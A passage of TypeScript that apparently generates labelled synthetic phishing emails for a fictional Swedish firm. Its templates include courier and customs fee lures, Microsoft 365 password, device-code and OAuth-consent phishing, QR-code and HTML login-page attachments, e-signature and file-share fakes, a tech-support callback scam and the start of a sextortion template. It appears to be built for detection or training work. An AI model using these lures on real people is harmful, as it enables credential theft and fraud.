      `Your shipment with waybill **${awb}** from ${pick(r, ['Ningbo, CN', 'Xiamen, CN', 'Shenzhen, CN'])} is held at customs in Stockholm. Import duty and VAT of ${money(amount(r, 800, 12000), 'SEK', 'en')} must be paid before delivery.`,
      'The invoice and payment options are in the attached document. Please open it in your browser.',
      'DHL Express Sweden AB',
    ],
    modes: { spoof: 3, look: 3, hacked: 4 },
  });
});

const budbeeMissed = T('delivery-reschedule', 'budbee-missed-delivery', (r) => {
  const look = lookalike(
    r,
    'budbee',
    ['leverans', 'track', 'ombokning', 'se'],
    ['com', 'net', 'site', 'info'],
  );
  const to = addr(pick(r, SWEDES));
  return brandPhish(r, {
    brand: 'budbee',
    color: '#3ccbda',
    lang: 'sv',
    to,
    real: 'budbee.com',
    look,
    names: ['Budbee', 'Budbee Leverans'],
    locals: ['no-reply', 'leverans', 'info'],
    subject: pick(r, [
      'Vi kunde inte leverera ditt paket',
      'Boka ny leveranstid',
      'Ditt paket väntar – välj ny tid',
    ]),
    blocks: [
      `Hej ${to.name?.split(' ')[0]}!`,
      'Vår bud försökte leverera ditt paket idag men ingen var hemma och portkoden saknades.',
      `Välj en ny leveranstid och betala ombokningsavgiften (${money(pick(r, [15, 25, 29]), 'SEK', 'sv')}) så levererar vi inom 24 timmar.`,
      { button: { label: 'Välj ny tid', href: landing(r, look, 'budbee', `t/${token(r, 12)}`) } },
      'Hälsningar\nBudbee',
    ],
    modes: { look: 6, hacked: 2, free: 2 },
  });
});

// ---------------------------------------------------------------------------------------------------------
// Microsoft 365 and the desk's own accounts

const passwordExpiry = T('password-expiry', 'm365-password-expiry', (r) => {
  const to = addr(pick(r, PEOPLE));
  const lang: Lang = chance(r, 0.6) ? 'sv' : 'en';
  const look = pick(r, [
    `${DOMAIN.split('.')[0]}-${pick(r, ['portal', 'sso', 'login'])}.${pick(r, ['com', 'net', 'online'])}`,
    lookalike(r, 'office365', ['passwordreset', 'account', 'security'], ['com', 'net', 'online', 'site']),
    `login-microsoftonline.${pick(r, ['com', 'net', 'support'])}`,
  ]);
  const href = pick(r, [
    `https://${look}/common/oauth2/authorize?login_hint=${encodeURIComponent(to.address)}`,
    `${freeHost(r, 'o365-reset')}#${Buffer.from(to.address).toString('base64')}`,
    redirectVia(r, `https://${look}/?email=${to.address}`),
    `https://${pick(r, ['forms.office.com/r/', 'docs.google.com/forms/d/e/1FAIpQL'])}${urlsafe(r, 12)}`,
  ]);
  const from: Addr = pick(r, [
    { name: lang === 'sv' ? 'IT-support' : 'IT Service Desk', address: `it-support@${look}` },
    { name: 'Microsoft 365', address: hacked(r).address },
    { name: `${DOMAIN} ${lang === 'sv' ? 'Administratör' : 'Admin'}`, address: `admin@${DOMAIN}` },
  ]);
  const spoof = from.address.endsWith(`@${DOMAIN}`);
  const blocks: Block[] =
    lang === 'sv'
      ? [
          `Hej ${to.name?.split(' ')[0]},`,
          `Lösenordet för **${to.address}** går ut idag. Om du inte behåller eller byter det kommer du att loggas ut från Outlook, Teams och OneDrive.`,
          {
            button: {
              label: pick(r, ['Behåll nuvarande lösenord', 'Byt lösenord', 'Uppdatera nu']),
              href,
              color: '#0078d4',
            },
          },
          'Detta är ett automatiskt meddelande från IT-avdelningen.',
        ]
      : [
          `Hello ${to.name?.split(' ')[0]},`,
          `The password for **${to.address}** expires today. To avoid losing access to Outlook, Teams and OneDrive, keep or change your password now.`,
          {
            button: {
              label: pick(r, ['Keep current password', 'Change password', 'Update now']),
              href,
              color: '#0078d4',
            },
          },
          'This is an automated message from your IT department.',
        ];
  return {
    from,
    to,
    subject:
      lang === 'sv'
        ? pick(r, [
            `Ditt lösenord går ut idag (${to.address})`,
            'Lösenordet upphör – åtgärd krävs',
            'Påminnelse: lösenordsbyte',
          ])
        : pick(r, [
            'Password expiry notice',
            `Your password for ${to.address} expires today`,
            'Action required: password expiration',
          ]),
    auth: spoof ? spoofed(r) : PASS,
    via: spoof ? 'vps' : 'direct',
    returnPath: spoof ? `bounce@${look}` : undefined,
    lang,
    ...letter({
      style: chance(r, 0.6) ? 'branded' : 'plain',
      parts: parts(r, 0.5, 0.1),
      brand: 'Microsoft 365',
      color: '#0078d4',
      lang,
      blocks,
    }),
  };
});

const sharePointShare = T('fake-file-share', 'sharepoint-shared-document', (r) => {
  const sharer = pick(r, [
    { name: full(CFO), org: COMPANY },
    {
      name: pick(r, ['Kari Solberg', 'Tobias Wendt', 'Stefanie Huber']),
      org: pick(r, ['Lyngentind Tekstil AS', 'Bergmann Outdoor GmbH', 'Allgäu Bergsport']),
    },
    {
      name: pick(r, ['Johan Hagström', 'Linnea Ek', 'Anders Kvarnby']),
      org: pick(r, ['Hagström Redovisning AB', 'Mäklarhuset Kvarnby']),
    },
  ]);
  const doc = pick(r, [
    'Q3 budget 2026.xlsx',
    'Leverantörsavtal 2026.pdf',
    'Prislista AW26.xlsx',
    'Ny bankinformation.pdf',
    'Löneunderlag.xlsx',
    'Remittance.pdf',
  ]);
  const h = hacked(r);
  const look = pick(r, [
    `${h.domain.split('.')[0]}-my.sharepoint.com.${token(r, 5)}.${pick(r, ['pages.dev', 'workers.dev'])}`,
    lookalike(r, 'sharepoint', ['docs', 'fileshare', 'online'], ['com', 'net', 'app']),
  ]);
  const href = pick(r, [
    `https://${look}/:x:/g/personal/${urlsafe(r, 18)}`,
    `https://${h.domain.split('.')[0]}-my.sharepoint.com/:o:/g/personal/${token(r, 10)}/${urlsafe(r, 24)}`,
    `${freeHost(r, 'shared-doc')}?d=${urlsafe(r, 16)}`,
    `https://${pick(r, ['www.canva.com/design/DAG', 'app.box.com/s/', 'www.notion.so/'])}${urlsafe(r, 14)}`,
  ]);
  const to = addr(pick(r, [...FINANCE, ECOM, HR]));
  const lang: Lang = chance(r, 0.5) ? 'sv' : 'en';
  return {
    from: {
      name: `${sharer.name} (via SharePoint)`,
      address: sharer.org === COMPANY ? `no-reply@sharepointonline.com` : h.address,
    },
    to,
    subject:
      lang === 'sv' ? `${sharer.name} har delat "${doc}" med dig` : `${sharer.name} shared "${doc}" with you`,
    auth: sharer.org === COMPANY ? spoofed(r) : PASS,
    via: sharer.org === COMPANY ? 'vps' : 'm365',
    lang,
    ...letter({
      style: 'branded',
      parts: parts(r, 0.6, 0),
      brand: 'SharePoint',
      color: '#036c70',
      lang,
      blocks:
        lang === 'sv'
          ? [
              `${sharer.name} har delat en fil med dig`,
              pick(r, [
                '"Hej, här är dokumentet vi pratade om. Granska gärna innan fredag."',
                '"Se bifogat underlag."',
                '',
              ]),
              `📄 **${doc}**`,
              { button: { label: 'Öppna', href, color: '#036c70' } },
              { small: 'Den här länken fungerar bara för direkta mottagare av meddelandet.' },
            ].filter(Boolean)
          : [
              `${sharer.name} shared a file with you`,
              pick(r, [
                '"Please review and approve by end of day."',
                '"Here is the document as discussed."',
                '',
              ]),
              `📄 **${doc}**`,
              { button: { label: 'Open', href, color: '#036c70' } },
              { small: 'This link only works for the direct recipients of this message.' },
            ].filter(Boolean),
      footer: [
        'Microsoft respects your privacy. To learn more, please read our Privacy Statement.',
        'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052',
      ],
    }),
  };
});

const deviceCode = T('device-code', 'teams-device-code', (r) => {
  const code = upper(r, 9);
  const h = hacked(r);
  const lang: Lang = chance(r, 0.6) ? 'en' : 'sv';
  const name = pick(r, [
    'Johan Hagström',
    'Camille Laurent',
    'Lars Lundgren',
    'Anna Ekdahl',
    'Kristin Nordlys',
    'Wei Zhang',
  ]);
  const from: Addr = pick(r, [
    { name, address: h.address },
    { name, address: freemail(r, name.toLowerCase().replace(' ', '.')) },
  ]);
  const blocks: Block[] =
    lang === 'en'
      ? [
          `Hi ${pick(r, ['', 'Mikael', 'Sara', 'Jonas'])},`.replace(' ,', ','),
          pick(r, [
            `I've shared the ${pick(r, ['contract draft', 'revised price list', 'invoice documents'])} with you in a secure Teams workspace. Because it contains confidential information you need to verify once.`,
            'Our company now uses Microsoft secure message encryption. To open the encrypted message, authenticate your device.',
          ]),
          `1. Go to [https://microsoft.com/devicelogin](https://microsoft.com/devicelogin)\n2. Enter the code: **${code}**\n3. Sign in with your work account`,
          'The code expires in 15 minutes, so please do it now. Let me know when it is done.',
          `Thanks,\n${name}`,
        ]
      : [
          'Hej,',
          'Vi har bjudit in dig till ett säkert Teams-möte om avtalet. För att ansluta behöver du godkänna din enhet en gång.',
          `Gå till [https://microsoft.com/devicelogin](https://microsoft.com/devicelogin) och ange koden **${code}**, logga sedan in med ditt jobbkonto.`,
          'Koden gäller i 15 minuter.',
          `Mvh\n${name}`,
        ];
  return {
    from,
    to: addr(pick(r, [CFO, AP, ECOM, CONTROLLER, MARKETING, CEO])),
    subject:
      lang === 'en'
        ? pick(r, [
            'Secure document shared with you',
            'Encrypted message: verification needed',
            'Teams meeting – device verification',
          ])
        : pick(r, ['Säkert dokument delat med dig', 'Teams-möte: verifiera enhet']),
    auth: PASS,
    via: from.address.endsWith('gmail.com') ? 'gmail' : 'm365',
    lang,
    ...letter({ style: 'outlook', parts: parts(r, 0.3, 0.2), lang, blocks }),
  };
});

const oauthConsent = T('oauth-consent', 'integration-oauth-consent', (r) => {
  const app = pick(r, [
    'Fortnox Integration',
    'Shopify Mail Sync',
    'Klarna Reports Connector',
    'PostNord Portal Sync',
    'Secure Docs Viewer',
  ]);
  const cb = `https://${lookalike(r, app.split(' ')[0].toLowerCase(), ['sync', 'connect', 'app', 'auth'], ['app', 'io', 'com', 'cloud'])}/oauth/callback`;
  const client = uuid(r);
  const href = `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=${client}&response_type=code&redirect_uri=${encodeURIComponent(cb)}&scope=${encodeURIComponent('offline_access Mail.ReadWrite Mail.Send Files.ReadWrite.All User.Read')}&prompt=consent&state=${hex(r, 16)}`;
  const lang: Lang = app.startsWith('Fortnox') || app.startsWith('PostNord') ? 'sv' : 'en';
  const look = lookalike(
    r,
    app.split(' ')[0].toLowerCase(),
    ['notifications', 'integrations', 'mail'],
    ['com', 'net', 'app'],
  );
  return {
    from: { name: app, address: `${pick(r, ['noreply', 'integrations', 'support'])}@${look}` },
    to: addr(pick(r, [CFO, AP, ECOM, CONTROLLER, IT])),
    subject:
      lang === 'sv'
        ? pick(r, [
            `${app}: koppla om er Microsoft 365-integration`,
            'Åtgärd krävs: integrationen slutar fungera',
          ])
        : pick(r, [`${app}: reconnect your Microsoft 365 account`, 'Action required: authorization expired']),
    auth: registered(r),
    via: pick(r, ['sendgrid', 'direct'] as const),
    lang,
    ...letter({
      style: 'branded',
      parts: parts(r, 0.5, 0.1),
      brand: app,
      color: '#2d6a4f',
      lang,
      blocks:
        lang === 'sv'
          ? [
              'Hej,',
              `Microsoft har ändrat behörighetsmodellen för tredjepartsappar. För att ${app} ska fortsätta hämta fakturor och kvitton från er inkorg måste integrationen godkännas på nytt.`,
              { button: { label: 'Godkänn integrationen', href } },
              'Du loggar in direkt hos Microsoft. Det tar mindre än en minut.',
            ]
          : [
              'Hello,',
              `Microsoft has changed how third-party apps are authorized. To keep ${app} working, an administrator or mailbox owner must reconnect the integration.`,
              { button: { label: 'Reconnect with Microsoft', href } },
              'You will sign in on the official Microsoft page.',
            ],
    }),
  };
});

const mfaQr = T('qr-mfa-reset', 'mfa-qr-inline', async (r) => {
  const to = addr(pick(r, PEOPLE));
  const look = pick(r, [
    `${DOMAIN.split('.')[0]}-mfa.${pick(r, ['com', 'net', 'online'])}`,
    lookalike(r, 'microsoft', ['authenticator', 'mfa-setup', 'security'], ['com', 'net', 'online']),
  ]);
  const url = `https://${look}/auth?u=${Buffer.from(to.address).toString('base64url')}`;
  const img = chance(r, 0.5) ? await qrPng(url) : await qrJpeg(url);
  const isPng = img[0] === 0x89;
  const cid = `image001.${isPng ? 'png' : 'jpg'}@01DB${hex(r, 4).toUpperCase()}.${hex(r, 8).toUpperCase()}`;
  const d = randomDate(r);
  const h = hacked(r);
  const from: Addr = pick(r, [
    { name: 'Microsoft 365 Security', address: h.address },
    { name: `IT-avdelningen ${COMPANY}`, address: `security@${look}` },
    { name: 'Microsoft Authenticator', address: `no-reply@${look}` },
  ]);
  const attach = chance(r, 0.3);
  return {
    from,
    to,
    subject: pick(r, [
      `Multifaktorautentisering måste förnyas senast ${day(addDays(d, 2), 'sv', true)}`,
      'Åtgärd krävs: konfigurera om Microsoft Authenticator',
      `${to.name?.split(' ')[0]}, din MFA-registrering upphör`,
      'Säkerhetsuppdatering för ditt konto',
    ]),
    date: d,
    auth: PASS,
    via: pick(r, ['m365', 'direct'] as const),
    lang: 'sv',
    attachments: [
      {
        filename: isPng ? 'image001.png' : 'image001.jpg',
        type: isPng ? 'image/png' : 'image/jpeg',
        content: img,
        cid: attach ? undefined : cid,
      },
    ],
    ...letter({
      style: chance(r, 0.5) ? 'branded' : 'outlook',
      parts: attach ? parts(r, 0.3, 0.3) : 'html',
      brand: 'Microsoft 365',
      color: '#0078d4',
      lang: 'sv',
      blocks: [
        `Hej ${to.name?.split(' ')[0]},`,
        `Din registrering för multifaktorautentisering för ${to.address} löper ut. För att undvika att kontot låses behöver du skanna QR-koden med mobilkameran och följa instruktionerna.`,
        attach ? 'QR-koden finns i bilagan.' : { img: { cid, alt: 'QR-kod', width: 180 } },
        'Tack för att du hjälper oss att skydda företagets information.\nIT-avdelningen',
      ],
    }),
  };
});

const qrPdf = T('qr-pdf', 'salary-review-qr-pdf', async (r) => {
  const to = addr(pick(r, PEOPLE));
  const lang: Lang = chance(r, 0.6) ? 'sv' : 'en';
  const look = lookalike(
    r,
    pick(r, ['hr', 'payroll', 'docs', 'secure']),
    ['fjallspar', 'portal', 'review', 'sign'],
    ['com', 'net', 'online', 'site'],
  );
  const url = `https://${look}/${urlsafe(r, 10)}?e=${Buffer.from(to.address).toString('base64url')}`;
  const jpg = await qrJpeg(url);
  const d = randomDate(r);
  const pdf = onePagePdf(
    lang === 'sv'
      ? [
          `${COMPANY} – Lönerevision ${d.getUTCFullYear()}`,
          `Medarbetare: ${to.name}`,
          'Ditt nya lönebesked och avtal finns i HR-portalen.',
          'Skanna QR-koden med mobilen för att granska och signera.',
          `Senast: ${day(addDays(d, 3), 'sv', true)}`,
        ]
      : [
          `${COMPANY} – Compensation review ${d.getUTCFullYear()}`,
          `Employee: ${to.name}`,
          'Your salary adjustment letter is ready for signature.',
          'Scan the QR code with your phone to review and sign.',
          `Due: ${day(addDays(d, 3), 'en')}`,
        ],
    { jpeg: jpg },
  );
  const h = hacked(r);
  const from: Addr = pick(r, [
    { name: lang === 'sv' ? 'HR Fjällspår' : 'HR Department', address: h.address },
    { name: `HR via DocuSign`, address: `dse@${look}` },
    { name: full(HR), address: freemail(r, 'maria.holm.hr') },
  ]);
  return {
    from,
    to,
    subject:
      lang === 'sv'
        ? pick(r, [
            `Lönerevision ${d.getUTCFullYear()} – signera senast ${day(addDays(d, 3), 'sv', true)}`,
            'Ditt nya lönebesked',
            'Viktigt från HR: uppdaterat anställningsavtal',
          ])
        : pick(r, [
            'Salary adjustment letter',
            `Compensation review ${d.getUTCFullYear()} – action required`,
            'Updated employment terms',
          ]),
    date: d,
    auth: PASS,
    via: from.address.endsWith('gmail.com') ? 'gmail' : 'direct',
    lang,
    attachments: [
      {
        filename:
          lang === 'sv'
            ? `Lönerevision_${to.name?.split(' ')[1] ?? 'dokument'}.pdf`
            : 'Salary_Adjustment.pdf',
        type: 'application/pdf',
        content: pdf,
      },
    ],
    ...letter({
      style: 'plain',
      parts: parts(r, 0.3, 0.4),
      lang,
      blocks:
        lang === 'sv'
          ? [
              `Hej ${to.name?.split(' ')[0]},`,
              'Bifogat finns ditt dokument från årets lönerevision. Följ instruktionerna i dokumentet för att granska och signera.',
              'Vänliga hälsningar\nHR',
            ]
          : [
              `Hi ${to.name?.split(' ')[0]},`,
              'Please find your compensation review document attached. Follow the instructions in the document to review and sign.',
              'Regards,\nHR',
            ],
    }),
  };
});

const docusignFake = T('fake-esignature', 'docusign-on-compromised-site', (r) => {
  const to = addr(pick(r, [CEO, CFO, ECOM, MARKETING, HR]));
  const sender = pick(r, [
    'Tobias Wendt',
    'Kari Solberg',
    'Nordic Growth Media',
    'Hagström Redovisning',
    'Advokatfirman Sandell',
  ]);
  const doc = pick(r, [
    'Supplier Agreement 2026',
    'Leveransavtal AW26',
    'NDA – Fjällspår AB',
    'Influencer Agreement',
    'Hyresavtal lager Ringögatan',
  ]);
  const href = pick(r, [
    `${compromisedSite(r)}?${urlsafe(r, 20)}`,
    `${freeHost(r, 'docusign-review')}envelope/${uuid(r)}`,
    redirectVia(
      r,
      `https://${lookalike(r, 'docusign', ['review', 'esign', 'envelope'], ['com', 'net'])}/s/${uuid(r)}`,
    ),
  ]);
  const h = hacked(r);
  return {
    from: {
      name: `${sender} via DocuSign`,
      address: pick(r, [
        h.address,
        `dse@${lookalike(r, 'docusign', ['mail', 'notification', 'eu'], ['com', 'net'])}`,
      ]),
    },
    to,
    subject: pick(r, [
      `Please DocuSign: ${doc}`,
      `Complete with DocuSign: ${doc}.pdf`,
      `${sender} sent you a document to review and sign`,
    ]),
    auth: PASS,
    via: 'direct',
    lang: 'en',
    ...letter({
      style: 'branded',
      parts: parts(r, 0.6, 0.1),
      brand: 'DocuSign',
      color: '#1e4ca1',
      lang: 'en',
      blocks: [
        `${sender} sent you a document to review and sign.`,
        { button: { label: 'REVIEW DOCUMENT', href, color: '#ffc820' } },
        `**${sender}**\n${pick(r, ['Please review and sign at your earliest convenience.', 'Please sign today so we can proceed.', 'As discussed on the phone.'])}`,
        {
          small:
            'Do Not Share This Email: This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.',
        },
      ],
      footer: [
        "About DocuSign: Sign documents electronically in just minutes. It's safe, secure, and legally binding.",
      ],
    }),
  };
});

const scriveHtml = T('esign-html-attachment', 'esign-html-form', (r) => {
  const to = addr(pick(r, [CEO, CFO, HR, ECOM]));
  const look = lookalike(
    r,
    pick(r, ['scrive', 'esign', 'signering']),
    ['dokument', 'avtal', 'portal'],
    ['com', 'net', 'online'],
  );
  const doc = pick(r, [
    'Avtal_leverans_2026',
    'Samarbetsavtal',
    'Hyresavtal_Ringogatan',
    'Personalhandbok_2026',
  ]);
  const file = `${doc}.${pick(r, ['html', 'htm', 'shtml'])}`;
  const h = hacked(r);
  return {
    from: {
      name: pick(r, [`${h.org} via Scrive`, 'Scrive', 'E-signering']),
      address: pick(r, [h.address, `noreply@${look}`]),
    },
    to,
    subject: pick(r, [
      `Dokument att signera: ${doc.replace(/_/g, ' ')}`,
      `${h.org} har skickat ett dokument för underskrift`,
      'Påminnelse: avtal väntar på din signatur',
    ]),
    auth: PASS,
    via: 'direct',
    lang: 'sv',
    attachments: [
      htmlFile(
        file,
        loginPage(
          r,
          'Signera dokument',
          to.address,
          `https://${look}/sign/submit`,
          'Logga in med din e-post för att signera',
        ),
      ),
    ],
    ...letter({
      style: 'plain',
      parts: parts(r, 0.3, 0.3),
      blocks: [
        'Hej,',
        `Du har fått ett dokument att signera från ${h.org}. Öppna bilagan och logga in med din företagsmejl för att granska och signera.`,
        'Dokumentet är tillgängligt i 48 timmar.',
        `Med vänlig hälsning\n${h.org}`,
      ],
    }),
  };
});

const voicemail = T('voicemail-lure', 'voicemail-html-attachment', (r) => {
  const to = addr(pick(r, PEOPLE));
  const caller = pick(r, [
    `+46 31 ${digits(r, 3)} ${digits(r, 2)} ${digits(r, 2)}`,
    `+46 70 ${digits(r, 3)} ${digits(r, 2)} ${digits(r, 2)}`,
    `+47 ${digits(r, 3)} ${digits(r, 2)} ${digits(r, 3)}`,
  ]);
  const look = lookalike(
    r,
    pick(r, ['voice', 'vm', 'teams']),
    ['message', 'mail', 'audio'],
    ['com', 'net', 'online', 'app'],
  );
  const dur = `0:${int(r, 12, 59)}`;
  const file = pick(r, [
    `VM_${digits(r, 6)}.html`,
    `Voicemail_${caller.replace(/\D/g, '').slice(-4)}.htm`,
    `Audio_Message_${dur.replace(':', 'm')}s.html`,
    `▶️Play_VM_${digits(r, 4)}.html`,
  ]);
  const content = chance(r, 0.5)
    ? redirectPage(r, `https://${look}/vm/${urlsafe(r, 12)}`, to.address)
    : loginPage(r, 'Voice Message', to.address, `https://${look}/listen`, 'Sign in to play the message');
  const h = hacked(r);
  return {
    from: {
      name: pick(r, ['Voice Mail Service', 'Microsoft Teams Voicemail', 'VoiceMail', `Telefoni ${COMPANY}`]),
      address: pick(r, [h.address, `voicemail@${look}`]),
    },
    to,
    subject: pick(r, [
      `New voicemail from ${caller} (${dur})`,
      `Voice message received – ${caller}`,
      `Nytt röstmeddelande från ${caller}`,
      `📞 Missed call ${caller}`,
    ]),
    auth: PASS,
    via: 'direct',
    lang: 'en',
    attachments: [htmlFile(file, content)],
    ...letter({
      style: 'plain',
      parts: parts(r, 0.4, 0.2),
      blocks: [
        `You have received a new voice message.`,
        {
          rows: [
            ['From', caller],
            ['To', to.address],
            ['Duration', dur],
            ['Received', day(randomDate(r), 'en')],
          ],
        },
        'The audio message is attached. Open it in your browser to listen.',
      ],
    }),
  };
});

const calendarLure = T('calendar-lure', 'invitation-review-meeting', (r) => {
  const to = addr(pick(r, PEOPLE));
  const d = randomDate(r);
  const look = lookalike(
    r,
    pick(r, ['teams', 'meet', 'office']),
    ['invite', 'calendar', 'join'],
    ['com', 'net', 'online', 'app'],
  );
  const href = `https://${look}/join/${urlsafe(r, 14)}?u=${encodeURIComponent(to.address)}`;
  const h = hacked(r);
  const organizer = chance(r, 0.5) ? h.address : `calendar@${look}`;
  const summary = pick(r, [
    'Q4 performance review',
    'Lönesamtal – bekräfta tid',
    'Mandatory: updated security policy briefing',
    'Budget 2027 – final review',
    'Supplier audit follow-up',
  ]);
  const start = `${d.getUTCFullYear()}${String(d.getUTCMonth() + 1).padStart(2, '0')}${String(d.getUTCDate()).padStart(2, '0')}T${String(d.getUTCHours()).padStart(2, '0')}0000Z`;
  const ics = invitation({
    uid: `${uuid(r)}@${look}`,
    organizer,
    attendee: to.address,
    summary,
    description: `Please review the pre-read before the meeting: ${href}\nSign in with your work account to access the document.`,
    location: `Microsoft Teams Meeting ${href}`,
    start,
  });
  return {
    from: { name: pick(r, [full(HR), full(CEO), 'Microsoft Teams', 'Calendar']), address: organizer },
    to,
    subject: `${pick(r, ['Invitation: ', 'Inbjudan: ', 'Updated invitation: '])}${summary}`,
    date: d,
    auth: organizer === h.address ? PASS : registered(r),
    via: 'direct',
    lang: 'en',
    attachments: [{ filename: 'invite.ics', type: 'text/calendar; method=REQUEST', content: ics }],
    ...letter({
      style: 'plain',
      parts: parts(r, 0.5, 0.2),
      blocks: [
        `You have been invited to: **${summary}**`,
        `When: ${day(d, 'en')} ${String(d.getUTCHours() + 1).padStart(2, '0')}:00 CET`,
        `[Join the meeting and view the pre-read](${href})`,
        { small: 'Accept or decline this invitation in your calendar.' },
      ],
    }),
  };
});

const mailboxQuota = T('mailbox-quota', 'mailbox-quota-full', (r) => {
  const to = addr(pick(r, PEOPLE));
  const pct = int(r, 95, 99);
  const look = pick(r, [
    `mail-${DOMAIN.replace('.', '-')}.${pick(r, ['com', 'net', 'online'])}`,
    lookalike(r, 'outlook', ['storage', 'quota', 'mailbox'], ['com', 'net', 'site']),
  ]);
  const href = pick(r, [
    `https://${look}/quota?u=${to.address}`,
    `${freeHost(r, 'mailbox-upgrade')}?e=${to.address}`,
    `${compromisedSite(r)}owa/?${to.address}`,
  ]);
  const lang: Lang = chance(r, 0.6) ? 'sv' : 'en';
  const address = pick(r, [`postmaster@${look}`, hacked(r).address, `no-reply@${DOMAIN}`]);
  const own = address.endsWith(`@${DOMAIN}`);
  return {
    from: { name: lang === 'sv' ? 'Postmaster' : 'Mail Administrator', address },
    returnPath: own ? `bounce-${token(r, 6)}@${look}` : undefined,
    to,
    subject:
      lang === 'sv'
        ? pick(r, [
            `Din postlåda är ${pct}% full`,
            'Inkommande e-post har stoppats',
            'Varning: lagringsutrymme',
          ])
        : pick(r, [`Your mailbox is ${pct}% full`, 'Incoming messages on hold', 'Mailbox storage warning']),
    auth: own ? spoofed(r) : PASS,
    via: own ? 'vps' : 'direct',
    lang,
    ...letter({
      style: 'plain',
      parts: parts(r, 0.6, 0.1),
      blocks:
        lang === 'sv'
          ? [
              `Din postlåda ${to.address} har nått ${pct}% av sin kvot. ${int(r, 4, 31)} inkommande meddelanden har satts i kö och levereras inte.`,
              `[Frigör utrymme / öka kvot](${href})`,
              'Om du inte åtgärdar detta inom 24 timmar kan meddelanden gå förlorade.',
              'E-postadministratör',
            ]
          : [
              `Your mailbox ${to.address} has reached ${pct}% of its quota. ${int(r, 4, 31)} incoming messages are on hold.`,
              `[Release pending messages](${href})`,
              'Messages will be deleted after 24 hours.',
              'Mail Administrator',
            ],
    }),
  };
});

const wetransferFake = T('file-transfer-lure', 'wetransfer-photos', (r) => {
  const to = addr(pick(r, [...MARKETERS, ECOM]));
  const sender = pick(r, ['Studio Nordlys', 'Linnea Foto', 'Aurora Media Group', 'Trailhead Social']);
  const files = int(r, 3, 48);
  const look = lookalike(r, 'wetransfer', ['download', 'files', 'share'], ['com', 'net', 'app', 'site']);
  const href = pick(r, [
    `https://${look}/downloads/${hex(r, 32)}`,
    `${freeHost(r, 'we-transfer')}d/${hex(r, 16)}`,
    `https://${pick(r, ['we.tl', 'wetransfer.com'])}.${token(r, 6)}.${pick(r, ['top', 'xyz'])}/t-${urlsafe(r, 10)}`,
  ]);
  const h = hacked(r);
  return {
    from: { name: 'WeTransfer', address: pick(r, [`noreply@${look}`, h.address, 'noreply@wetransfer.com']) },
    to,
    subject: pick(r, [
      `${sender} sent you ${files} files via WeTransfer`,
      `${files} files: product photos AW26`,
      `Your files from ${sender} expire tomorrow`,
    ]),
    auth: PASS,
    via: 'direct',
    lang: 'en',
    ...letter({
      style: 'branded',
      parts: parts(r, 0.6, 0.1),
      brand: 'WeTransfer',
      color: '#409fff',
      lang: 'en',
      blocks: [
        `**${sender}** sent you ${files} files`,
        pick(r, [
          '"Hi! Here are the edited photos from the shoot. Let me know which ones you want for the web shop."',
          '"Final images + invoice. Thanks!"',
          '"Campaign material, please download before expiry."',
        ]),
        {
          rows: [
            ['Files', `${files} items, ${int(r, 80, 900)} MB`],
            ['Expires', 'in 1 day'],
          ],
        },
        { button: { label: 'Get your files', href } },
      ],
      footer: ['To make sure our emails arrive, please add noreply@wetransfer.com to your contacts.'],
    }),
  };
});

const helpdeskCallback = T('tech-support-callback', 'it-helpdesk-callback', (r) => {
  const to = addr(pick(r, PEOPLE));
  const tel = pick(r, ['+46 8 446 881 20', '+46 10 138 55 07', '031-301 92 48', '+46 77 190 33 12']);
  const lang: Lang = chance(r, 0.7) ? 'sv' : 'en';
  const from: Addr = pick(r, [
    { name: 'Microsoft Säkerhetscenter', address: freemail(r, 'microsoft.security.center') },
    { name: 'IT-Support', address: freemail(r, 'it.helpdesk.support') },
    { name: 'Windows Defender', address: hacked(r).address },
  ]);
  const id = `INC${digits(r, 7)}`;
  return {
    from,
    to,
    subject:
      lang === 'sv'
        ? pick(r, [
            'Säkerhetsvarning: din dator har spärrats',
            `Ärende ${id}: misstänkt intrång`,
            'Virus upptäckt på din enhet',
          ])
        : pick(r, ['Security alert: your device has been blocked', `Incident ${id}: suspicious activity`]),
    auth: PASS,
    via: from.address.endsWith('gmail.com') ? 'gmail' : 'direct',
    lang,
    ...letter({
      style: 'plain',
      parts: parts(r, 0.3, 0.4),
      blocks:
        lang === 'sv'
          ? [
              'Hej,',
              `Vi har upptäckt skadlig kod (Trojan:Win32/${pick(r, ['Wacatac', 'Emotet', 'Qakbot'])}) på en enhet kopplad till ${to.address}. Din åtkomst till företagets nätverk har begränsats för att skydda övriga användare.`,
              `Ring supporten omedelbart på **${tel}** och uppge ärendenummer ${id}. En tekniker hjälper dig att rensa datorn via fjärranslutning.`,
              'Stäng inte av datorn innan du har ringt.',
            ]
          : [
              'Hello,',
              `Malicious software was detected on a device signed in as ${to.address}. Network access has been restricted.`,
              `Call support immediately on **${tel}** and quote incident ${id}. A technician will help you remotely.`,
            ],
    }),
  };
});

const domainRenewal = T('domain-renewal', 'domain-expiry-notice', (r) => {
  const dom = pick(r, [ORG.shopDomain, 'fjallspar.se', 'fjallspar.com', DOMAIN]);
  const look = pick(r, [
    'domanregistret-se.com',
    'se-domain-services.net',
    'domain-renewal-center.com',
    'nordic-dns-registry.org',
  ]);
  const amt = pick(r, [89, 149, 299, 1190]);
  return {
    from: {
      name: pick(r, ['Domänregistret', 'Domain Services', 'DNS Renewal']),
      address: `renewals@${look}`,
    },
    to: pick(r, [addr(IT), BOX.info, addr(ECOM)]),
    subject: pick(r, [
      `Din domän ${dom} förfaller`,
      `Sista påminnelse: förnya ${dom}`,
      `Domain ${dom} expiration notice`,
    ]),
    auth: registered(r),
    via: 'direct',
    lang: 'sv',
    ...letter({
      style: 'branded',
      parts: parts(r, 0.4, 0.2),
      brand: 'Domänregistret',
      color: '#2b6cb0',
      lang: 'sv',
      blocks: [
        'Hej,',
        `Domänen **${dom}** förfaller inom 3 dagar. När domänen löper ut slutar er webbshop och e-post att fungera, och domänen kan registreras av någon annan.`,
        `Förnya för ${money(amt, 'SEK', 'sv')} och undvik avbrott.`,
        { button: { label: 'Förnya domänen', href: landing(r, look, 'domain-renew', `renew?d=${dom}`) } },
        'Med vänliga hälsningar\nKundtjänst',
      ],
    }),
  };
});

const sextortion = T('extortion-sextortion', 'bitcoin-sextortion', (r) => {
  const to = addr(pick(r, PEOPLE));
  const btc = pick(r, [`bc1q${token(r, 38)}`, `1${b64ish(r, 33).replace(/[+/0OIl]/g, 'x')}`]);
  const amt = pick(r, ['1450', '1650', '1200', '2000']);
  const self = chance(r, 0.5);
  return {
